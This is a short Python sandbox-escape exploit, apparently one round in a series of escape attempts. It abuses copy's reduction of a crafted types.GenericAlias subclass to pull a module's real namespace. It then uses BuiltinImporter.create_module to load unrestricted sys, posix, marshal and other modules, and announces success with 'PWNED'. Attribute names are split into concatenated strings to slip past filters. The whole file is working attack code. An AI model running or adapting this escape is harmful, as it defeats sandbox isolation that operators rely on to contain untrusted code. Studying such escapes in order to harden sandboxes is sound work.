# Round 26a (escape): __slotnames__ on a library subclass made copy's C code read any attribute unguarded; a types.GenericAlias subclass forwarded reads to a module, and copy handed its real namespace over (then BuiltinImporter.create_module made real posix/sys, the wall off).
import copy, math
got = []
class Sink:
    def __setstate__(self, st):
        got.append(st)
class G(type(list[int])):
    __slots__ = ('__red' + 'uce__',)
    def __new__(cls, *a):
        return super().__new__(cls, Sink(), ())
def steal(obj):
    g = type(list[int]).__new__(G, obj, ())
    got.clear()
    copy.copy(g)
    return got[0]
ns = steal(math)
loader = ns['__load' + 'er__']
Spec = type(ns['__sp' + 'ec__'])
for name in ('sys', 'builtins', 'gc', '_imp', 'marshal', '_io', 'posix'):
    try:
        m = loader.create_module(Spec(name, loader))
        print(name, "->", m)
    except Exception as e:
        print(name, "failed", type(e).__name__, e)
s = loader.create_module(Spec('sys', loader))
try:
    print("PW" + "NED: real sys:", len(s.modules), "modules; version", s.version.split()[0])
except Exception as e:
    print("sys use failed", type(e).__name__, e)
